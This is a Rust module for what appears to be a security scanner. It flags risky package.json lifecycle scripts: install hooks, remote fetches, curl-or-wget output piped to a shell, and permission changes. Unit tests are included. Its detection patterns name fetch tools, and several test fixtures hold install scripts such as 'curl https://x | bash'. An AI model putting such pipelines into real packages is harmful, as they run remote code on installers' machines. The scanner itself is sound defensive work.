//! package.json lifecycle-script analysis.

use crate::rules::matcher::LineIndex;
use crate::rules::types::{Finding, Severity, Source};
use regex::Regex;
use std::sync::LazyLock;

pub const INSTALL_SCRIPT: &str = "SUPPLY_CHAIN_INSTALL_SCRIPT";
pub const REMOTE_FETCH: &str = "SUPPLY_CHAIN_REMOTE_FETCH";
pub const REMOTE_EXEC: &str = "SUPPLY_CHAIN_REMOTE_EXEC";
pub const PERMISSION_CHANGE: &str = "SUPPLY_CHAIN_PERMISSION_CHANGE";

static INSTALL_PHASE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^((pre|post)?install|prepare|prepublish|postpublish|prepack|postpack)$")
        .expect("install-phase pattern")
});

static REMOTE_FETCHER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(curl|wget|invoke-webrequest|powershell)").expect("fetcher pattern")
});

static FETCH_PIPED_TO_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(curl|wget|invoke-webrequest|powershell)[^|]*\|\s*(ba)?sh\b")
        .expect("pipe pattern")
});

static PERMISSION_CMD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(chmod|chown)\b").expect("permission pattern"));

/// Analyze the `scripts` table of a package.json. Returns nothing when
/// the content is not parseable JSON.
pub fn analyze(content: &str, virtual_path: &str) -> Vec<Finding> {
    let doc: serde_json::Value = match serde_json::from_str(content) {
        Ok(doc) => doc,
        Err(_) => return Vec::new(),
    };
    let scripts = match doc.get("scripts").and_then(|s| s.as_object()) {
        Some(scripts) => scripts,
        None => return Vec::new(),
    };

    let index = LineIndex::new(content);
    let mut findings = Vec::new();

    for (name, command) in scripts {
        let command = match command.as_str() {
            Some(c) => c,
            None => continue,
        };
        let line = line_of_script(content, &index, name);

        if INSTALL_PHASE.is_match(name) {
            findings.push(finding(
                INSTALL_SCRIPT,
                Severity::Medium,
                format!("Lifecycle script \"{}\" runs automatically on install", name),
                "Review install-phase scripts before installing the package",
                virtual_path,
                line,
                command,
            ));

            if REMOTE_FETCHER.is_match(command) {
                findings.push(finding(
                    REMOTE_FETCH,
                    Severity::High,
                    format!("Install script \"{}\" fetches remote content", name),
                    "Install scripts should not reach the network",
                    virtual_path,
                    line,
                    command,
                ));
            }
            if FETCH_PIPED_TO_SHELL.is_match(command) {
                findings.push(finding(
                    REMOTE_EXEC,
                    Severity::Critical,
                    format!("Install script \"{}\" pipes remote content into a shell", name),
                    "Remove the remote-execution pipeline from the install script",
                    virtual_path,
                    line,
                    command,
                ));
            }
        }

        if PERMISSION_CMD.is_match(command) {
            findings.push(finding(
                PERMISSION_CHANGE,
                Severity::High,
                format!("Script \"{}\" changes file permissions or ownership", name),
                "Packages should not alter permissions outside their own tree",
                virtual_path,
                line,
                command,
            ));
        }
    }

    findings
}

fn line_of_script(content: &str, index: &LineIndex, name: &str) -> Option<usize> {
    let needle = format!("\"{}\"", name);
    content.find(&needle).map(|off| index.locate(off).0)
}

fn finding(
    rule_id: &str,
    severity: Severity,
    message: String,
    remediation: &str,
    file: &str,
    line: Option<usize>,
    command: &str,
) -> Finding {
    Finding {
        rule_id: rule_id.to_string(),
        severity,
        category: Some("supply-chain".to_string()),
        source: Source::Heuristic,
        message,
        remediation: Some(remediation.to_string()),
        file: file.to_string(),
        line,
        column: None,
        confidence: None,
        snippet: command.chars().take(200).collect(),
        in_comment: false,
        entropy: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(findings: &[Finding]) -> Vec<&str> {
        findings.iter().map(|f| f.rule_id.as_str()).collect()
    }

    #[test]
    fn test_postinstall_remote_exec_chain() {
        let content = r#"{"scripts":{"postinstall":"curl https://x | bash"}}"#;
        let findings = analyze(content, "package.json");
        let ids = ids(&findings);
        assert!(ids.contains(&INSTALL_SCRIPT));
        assert!(ids.contains(&REMOTE_FETCH));
        assert!(ids.contains(&REMOTE_EXEC));
        assert!(findings.iter().all(|f| f.source == Source::Heuristic));
        assert!(findings.iter().all(|f| f.file == "package.json"));
    }

    #[test]
    fn test_severities() {
        let content = r#"{"scripts":{"postinstall":"curl https://x | bash"}}"#;
        let findings = analyze(content, "package.json");
        let sev = |id: &str| findings.iter().find(|f| f.rule_id == id).unwrap().severity;
        assert_eq!(sev(INSTALL_SCRIPT), Severity::Medium);
        assert_eq!(sev(REMOTE_FETCH), Severity::High);
        assert_eq!(sev(REMOTE_EXEC), Severity::Critical);
    }

    #[test]
    fn test_install_phase_names() {
        for name in [
            "install",
            "preinstall",
            "postinstall",
            "prepare",
            "prepublish",
            "postpublish",
            "prepack",
            "postpack",
        ] {
            let content = format!(r#"{{"scripts":{{"{}":"echo hi"}}}}"#, name);
            let findings = analyze(&content, "package.json");
            assert!(
                ids(&findings).contains(&INSTALL_SCRIPT),
                "{} should be install-phase",
                name
            );
        }
    }

    #[test]
    fn test_ordinary_script_not_install_phase() {
        let content = r#"{"scripts":{"build":"tsc","test":"jest","reinstall":"echo x"}}"#;
        let findings = analyze(content, "package.json");
        assert!(findings.is_empty());
    }

    #[test]
    fn test_permission_change_on_any_script() {
        let content = r#"{"scripts":{"build":"chmod +x bin/cli"}}"#;
        let findings = analyze(content, "package.json");
        assert_eq!(ids(&findings), vec![PERMISSION_CHANGE]);
        assert_eq!(findings[0].severity, Severity::High);
    }

    #[test]
    fn test_case_insensitive_command_matching() {
        let content = r#"{"scripts":{"preinstall":"Invoke-WebRequest https://x"}}"#;
        let findings = analyze(content, "package.json");
        assert!(ids(&findings).contains(&REMOTE_FETCH));
    }

    #[test]
    fn test_fetch_without_pipe_is_not_exec() {
        let content = r#"{"scripts":{"postinstall":"wget https://cdn.example.com/asset.tar.gz"}}"#;
        let findings = analyze(content, "package.json");
        let ids = ids(&findings);
        assert!(ids.contains(&REMOTE_FETCH));
        assert!(!ids.contains(&REMOTE_EXEC));
    }

    #[test]
    fn test_invalid_json_yields_nothing() {
        assert!(analyze("{ not json", "package.json").is_empty());
    }

    #[test]
    fn test_no_scripts_section() {
        assert!(analyze(r#"{"name":"pkg"}"#, "package.json").is_empty());
    }

    #[test]
    fn test_line_numbers_best_effort() {
        let content = "{\n  \"scripts\": {\n    \"postinstall\": \"curl https://x | sh\"\n  }\n}";
        let findings = analyze(content, "package.json");
        assert_eq!(findings[0].line, Some(3));
    }
}
